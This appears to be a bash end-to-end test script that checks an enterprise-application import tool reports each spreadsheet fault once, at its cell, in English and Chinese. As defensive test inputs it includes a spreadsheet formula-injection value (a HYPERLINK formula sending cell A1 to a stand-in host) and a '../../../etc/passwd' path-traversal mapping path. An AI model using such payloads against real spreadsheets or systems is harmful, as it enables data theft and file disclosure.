#!/bin/bash
# One fault, one message, at its cell, for every program (issue 21 §3, §4): a group value outside
# the program's list is an error at its cell with the nearest name, in both languages; a sheet's
# name is never a group value unless it is one; the same enterprise twice (a row pasted again,
# two counties) is an error naming both cells; a blank credit code is one message at its row;
# one bad key cell (a code stored as a number, a formula without a value) does not add false
# "missing" errors; a merged cell over two applicants' rows is an error at the merge; a mapping
# path that is invalid is named as invalid. Inputs: tests/import/variants.py and the case
# generators in tests/cases/.
source "$(dirname "$0")/../e2e_lib.sh"
T="$E2E_TMP"
C="$ROOT/tests/cases"
python3 tests/import/variants.py "$ROOT" "$T" || { fail "variants could not be made"; finish; exit 1; }
cd "$T" || exit 3
for w in numcredit formulanov mergedata duprow; do
  YINFA="$ROOT" python3 "$C/FAILS-xlsx-dangling-shared-strings-silently-empty/make-xlsx.py" "$w" || fail "make-xlsx.py $w"
done
ex() { awk -F'\t' -v c="$1" -v k="$2" '$1 == c && $2 == k { print $3 }' expect.txt; }
imp() { local p=$1; shift; rm -f r.xml; "$YINFA" import "$p" "$@" --output r.xml >out 2>err; rc=$?; }
has() { grep -qF -- "$1" err || { echo "--- stderr:"; cat err; return 1; }; }
one_error() { [ "$rc" -eq 1 ] && [ ! -e r.xml ] && [ "$(grep -c ': \(error\|错误\): ' err)" -eq 1 ] || { echo "rc=$rc"; cat err; return 1; }; }

for p in xuchang-nit hunan-cloud fujian-fusion shandong-demo henan-toutou; do
  imp "$p" "slip-$p.csv"
  check "$p: a group value with a slip: one error" one_error
  check "$p: … at its cell, with the header and the nearest name" \
    has "$(ex "slip-$p" cell): error: "
  check "$p: … names the value and the nearest" has "\"$(ex "slip-$p" typed)\" is not one of: "
  check "$p: … did you mean" has "— did you mean $(ex "slip-$p" nearest)?"
  LANG=zh_CN.UTF-8 imp "$p" "slip-$p.csv"
  check "$p: … in Chinese: 是否为" has "“$(ex "slip-$p" typed)”不是以下之一："
  check "$p: … in Chinese, nearest" has "——是否为 $(ex "slip-$p" nearest)？"
  imp "$p" "dup-$p.csv"
  check "$p: a row pasted twice: one error" one_error
  check "$p: … at the second row, naming the first" has "$(ex "dup-$p" cell): error: "
  # the first copy named at its code cell (a fresh user's trial: it named another column's)
  check "$p: … the code and both cells" has "统一社会信用代码 $(ex "dup-$p" code) is here and at $(ex "dup-$p" first):"
  LANG=zh_CN.UTF-8 imp "$p" "dup-$p.csv"
  check "$p: … in Chinese" has "同一企业被推荐了两次"
done
# a header the mapping does not know: its cell, and the accepted header near it
for p in xuchang-nit hunan-cloud fujian-fusion shandong-demo henan-toutou; do
  imp "$p" "header-$p.csv"
  h=$(ex "header-$p" header)
  check "$p: an unknown header: a warning at its cell with the accepted one" \
    has "$(ex "header-$p" cell): warning: header \"企业$h\" ($(ex "header-$p" ref)) is not one the mapping knows, so its column is not imported; accepted: $h"
  LANG=zh_CN.UTF-8 imp "$p" "header-$p.csv"
  check "$p: … in Chinese" has "表头“企业$h”（$(ex "header-$p" ref)）未识别，该列未导入；可用：$h"
done
# a blank credit code: one message at the applicant's row (hunan-cloud takes an 组织机构代码 instead)
for p in xuchang-nit fujian-fusion shandong-demo henan-toutou; do
  imp "$p" "blank-$p.csv"
  check "$p: a blank credit code: one error at the row" one_error
  check "$p: … names the header as written" has "$(ex "blank-$p" cell): error: "
  check "$p: … what to type" has "no $(ex "blank-$p" header): fill it in"
  LANG=zh_CN.UTF-8 imp "$p" "blank-$p.csv"
  check "$p: … in Chinese" has "缺少$(ex "blank-$p" header)：请填写"
done

imp hunan-cloud blank-hunan-cloud.csv
check "hunan-cloud: neither code: one error at the first one's blank cell, in the headers' words" \
  has "blank-hunan-cloud.csv:B3: error: enterprise HN-2019-001: no 统一社会信用代码 or 组织机构代码: fill in one of them"
LANG=zh_CN.UTF-8 imp hunan-cloud blank-hunan-cloud.csv
check "hunan-cloud: … in Chinese" has "缺少统一社会信用代码或组织机构代码：请填写其一"
check "hunan-cloud: … and not at a line of the round never written" bash -c "! grep -q '^r.xml' err"
# what the schema refuses after the import is said at the value's cell, in the header's words,
# not at r.xml:LINE nor at the applicant's first cell, nor in the round's element names
imp hunan-cloud mail-hunan-cloud.csv
check "hunan-cloud: a schema error after the import: at the value's cell, with its header" \
  has "mail-hunan-cloud.csv:O3: error: enterprise HN-2019-001: 电子邮箱 \"not-an-email\" should be an e-mail address such as name@example.com"
check "hunan-cloud: … not at r.xml" bash -c "! grep -q '^r.xml' err"
for p in xuchang-nit hunan-cloud fujian-fusion shandong-demo henan-toutou; do
  imp "$p" "schema-$p.csv"
  h=$(ex "schema-$p" header) v=$(ex "schema-$p" typed)
  check "$p: a value the schema refuses ($h $v): refused, nothing written" test "$rc" -eq 1 -a ! -e r.xml
  check "$p: … at its cell, with the header as written and what to type" \
    has "$(ex "schema-$p" cell): error: "
  check "$p: … the header, the value, the schema's requirement" grep -qF "$h \"$v\" $(ex "schema-$p" en)" err
  check "$p: … every message at that cell (none at the row's first cell, none in the round's words)" \
    bash -c "! grep -v '^yinfa' err | grep -v '^$(ex "schema-$p" cell): ' && ! grep -q '<[a-z-]*>' err"
  LANG=zh_CN.UTF-8 imp "$p" "schema-$p.csv"
  check "$p: … in Chinese" grep -qF "$(ex "schema-$p" cell): 错误: " err
  check "$p: … in Chinese, the header's words" grep -qF "$h“$v”$(ex "schema-$p" zh)" err
done

# the Xuchang workbook: a county label with a slip, a renamed sheet, two counties
imp xuchang-nit label-slip.xlsx
check "a 盖章 label '魏都': one error at its cell" one_error
check "… with the nearest county" has "label-slip.xlsx:魏都区!A2: error: 县（市、区） \"魏都\" is not one of: 魏都区, 建安区"
check "… did you mean 魏都区" has "— did you mean 魏都区?"
imp xuchang-nit sheet1.xlsx
check "a county sheet renamed Sheet1, label empty: refused" test "$rc" -eq 1
check "… its applicants have no county (not 历年经济指标 or 评审结果)" has "sheet1.xlsx:Sheet1!A5: error: applicant XC-2022-001: no 县（市、区）"
check "… no other sheet's name taken as a county" bash -c "! grep -q '历年经济指标\"\\|评审结果\"' err && [ ! -e r.xml ]"
imp xuchang-nit label-typo.xlsx
check "a 盖章 label mistyped (盖张) on a sheet named Sheet1: one error, not one per applicant" one_error
check "… at the label, with the label meant" \
  has "label-typo.xlsx:Sheet1!A2: error: \"县级工业和信息化主管部门(盖张)\" is not a label the mapping knows — did you mean 县级工业和信息化主管部门(盖章)?"
LANG=zh_CN.UTF-8 imp xuchang-nit label-typo.xlsx
check "… in Chinese" has "不是列映射中的标签——是否为 县级工业和信息化主管部门(盖章)？"
imp xuchang-nit two-counties.xlsx
check "one enterprise recommended by two counties: refused" test "$rc" -eq 1
check "… the second applicant's cell, naming the first" \
  has "two-counties.xlsx:建安区!D5: error: applicant $(ex two-counties id): 统一社会信用代码 $(ex two-counties code) is also applicant XC-2022-001's, at two-counties.xlsx:魏都区!D5"

imp xuchang-nit same-name.xlsx
check "one name, two credit codes: imported (exit 0)" test "$rc" -eq 0
check "… with a warning naming both cells" \
  has "same-name.xlsx:建安区!C5: warning: applicant $(ex two-counties id): 企业名称 许昌绿源信息技术有限公司 is also applicant XC-2022-001's, at same-name.xlsx:魏都区!C5, with another 统一社会信用代码: two enterprises of one name? Check both"

# one fault, one message (tests/cases/WEAK-import-one-bad-cell-three-false-errors)
imp xuchang-nit numcredit.xlsx
check "a credit code stored as a number: one error" one_error
check "… at 魏都区!D5" has "numcredit.xlsx:魏都区!D5: error: applicant XC-2022-001: 统一社会信用代码 9.14110020000000E+17 is stored as a number"
imp xuchang-nit formulanov.xlsx
check "a name that is a formula without a value: one error" one_error
check "… at 魏都区!C5" has "formulanov.xlsx:魏都区!C5: error: applicant XC-2022-001: 企业名称 is a formula whose value was never saved"
python3 - <<'PY'
u = open("xuchang-nit.csv", "rb").read().decode("gb18030")
open("quoted-code.csv", "wb").write(u.replace(",91411002MA0NP0DX77,", ",'91411002MA0NP0DX77,", 1).encode("gb18030"))
open("e17-code.csv", "wb").write(u.replace(",91411002MA0NP0DX77,", ",9.14110E+17,", 1).encode("gb18030"))
PY
imp xuchang-nit quoted-code.csv
check "CSV: a code typed '9141…: one error" one_error
imp xuchang-nit e17-code.csv
check "CSV: a code shown 9.14110E+17: one error" one_error
check "… at its cell" has "e17-code.csv:B3: error: 统一社会信用代码 9.14110E+17 is stored as a number"

# a text that a spreadsheet would run as a formula (issue 21 §5, import side): a warning at its cell
python3 - <<'PY'
import csv, io
rows = list(csv.reader(io.StringIO(open("xuchang-nit.csv", "rb").read().decode("gb18030"))))
i = rows[1].index("项目名称")
rows[2][i] = '=HYPERLINK("http://x.example/?"&A1,"点击")'
b = io.StringIO()
csv.writer(b, lineterminator="\r\n").writerows(rows)
open("formula.csv", "wb").write(b.getvalue().encode("gb18030"))
PY
imp xuchang-nit formula.csv
check "a text starting with =: imported (exit 0), kept as typed" bash -c "[ $rc -eq 0 ] && grep -qF '<name>=HYPERLINK' r.xml"
check "… with a warning at its cell" has "formula.csv:Q3: warning: applicant XC-2022-001: 项目名称 starts with \"=\", as a spreadsheet formula does"
LANG=zh_CN.UTF-8 imp xuchang-nit formula.csv
check "… in Chinese" has "项目名称 以“=”开头，形同电子表格公式"

# a group under its former name (许昌县, 建安区 since 2015: <former> in import.xml): an error naming
# the present name, never taken silently nor answered with the nearest spelling
python3 - <<'PY'
import csv, io
rows = list(csv.reader(io.StringIO(open("xuchang-nit.csv", "rb").read().decode("gb18030"))))
c = rows[1].index("县（市、区）")
r = next(i for i in range(2, len(rows)) if rows[i][c] == "建安区")
rows[r][c] = "许昌县"
b = io.StringIO()
csv.writer(b, lineterminator="\r\n").writerows(rows)
open("renamed.csv", "wb").write(b.getvalue().encode("gb18030"))
open("renamed.cell", "w").write("renamed.csv:C%d" % (r + 1))
PY
imp xuchang-nit renamed.csv
check "a county under its former name (许昌县): one error" one_error
check "… at its cell, naming the present name" has "$(cat renamed.cell): error: applicant XC-2022-009: 县（市、区） \"许昌县\" is the former name of 建安区: write 建安区"
LANG=zh_CN.UTF-8 imp xuchang-nit renamed.csv
check "… in Chinese" has "县（市、区）“许昌县”是 建安区 的旧称（已更名）：请填写 建安区"
sed 's#<former>许昌县</former>#<formerly>许昌县</formerly>#' "$ROOT/templates/xuchang-nit/import.xml" >m.xml
imp xuchang-nit renamed.csv --mapping m.xml
check "… a misspelt <former> in the mapping is named at its line" has "m.xml:$(grep -n '<formerly>' m.xml | cut -d: -f1): error: <formerly> is not allowed in <value> (means, former)"

# the office's own spelling of a header the mapping accepts (社会信用代码) is the one its messages use
python3 - <<'PY'
import csv, io
rows = list(csv.reader(io.StringIO(open("blank-xuchang-nit.csv", "rb").read().decode("gb18030"))))
rows[1][rows[1].index("统一社会信用代码")] = "社会信用代码"
b = io.StringIO()
csv.writer(b, lineterminator="\r\n").writerows(rows)
open("own-header.csv", "wb").write(b.getvalue().encode("gb18030"))
PY
imp xuchang-nit own-header.csv
check "a blank code under the office's header 社会信用代码: named by it, at the blank cell" \
  has "own-header.csv:$(ex blank-xuchang-nit cell | cut -d: -f2): error: applicant XC-2022-001: no 社会信用代码: fill it in"

# an item of a list column (企业荣誉) that the schema refuses, with an office's own mapping whose
# level part is plain text: at the list's cell, with its header, not at the row's first cell
python3 - <<'PY'
import csv, io
rows = list(csv.reader(io.StringIO(open("hunan-cloud.csv", "rb").read().decode("gb18030"))))
c = rows[1].index("企业荣誉")
r = next(i for i in range(2, len(rows)) if "（国家级，" in rows[i][c])
rows[r][c] = rows[r][c].replace("（国家级，", "（县级，", 1)
b = io.StringIO()
csv.writer(b, lineterminator="\r\n").writerows(rows)
open("honour.csv", "wb").write(b.getvalue().encode("gb18030"))
col = ""
i = c + 1
while i:
    i, m = divmod(i - 1, 26)
    col = chr(65 + m) + col
open("honour.cell", "w").write("honour.csv:%s%d" % (col, r + 1))
PY
sed 's|<part path="@level" kind="enum">|<part path="@level" kind="text">|; s|<value is="国家级"><means>国家</means></value>||; s|<value is="省级"><means>省部级</means></value>||; s|<value is="市级"><means>市州级</means></value>||' \
  "$ROOT/templates/hunan-cloud/import.xml" >own.xml
imp hunan-cloud honour.csv --mapping own.xml
check "a list item the schema refuses: one error" one_error
check "… at the list's cell, with its header" has "$(cat honour.cell): error: "
check "… in the header's words" has "企业荣誉 \"县级\" is not one of: 国家级、省级、市级"
LANG=zh_CN.UTF-8 imp hunan-cloud honour.csv --mapping own.xml
check "… in Chinese" has "企业荣誉“县级”不在规定范围内，应为以下之一：国家级、省级、市级"

# merged cells and repeated rows
imp xuchang-nit mergedata.xlsx
check "a merged cell over two applicants' rows: one error at the merge" one_error
check "… names the range and both applicants" has "mergedata.xlsx:魏都区!N5: error: the merged cell N5:N6 spans the rows of two applicants (XC-2022-001, row 5; XC-2022-002, row 6)"
imp xuchang-nit duprow.xlsx
check "a row that comes twice in a sheet's part: damaged, one error" one_error
check "… at the row" has "duprow.xlsx:魏都区!A5: error: row 5 comes again after row 5"

# a mapping path that is there but invalid (tests/cases/WEAK-mapping-invalid-path-says-needs-path)
line=$(grep -n 'path="enterprise/name"' "$ROOT/templates/xuchang-nit/import.xml" | cut -d: -f1)
for path in '../../../etc/passwd' 'enterprise//name' 'name[1]' '/review-round/@program' '@xmlns'; do
  sed "s#path=\"enterprise/name\"#path=\"$path\"#" "$ROOT/templates/xuchang-nit/import.xml" >m.xml
  imp xuchang-nit "$ROOT/samples/xuchang-2022.xlsx" --mapping m.xml
  check "mapping path=\"$path\": named as invalid at its line" has "m.xml:$line: error: path=\"$path\" is not a valid path: element names separated by /"
done
sed 's#path="enterprise/name"#path="@xmlns"#' "$ROOT/templates/xuchang-nit/import.xml" >m.xml
LANG=zh_CN.UTF-8 imp xuchang-nit "$ROOT/samples/xuchang-2022.xlsx" --mapping m.xml
check "… in Chinese" has "path=\"@xmlns\" 不是有效的路径"
finish
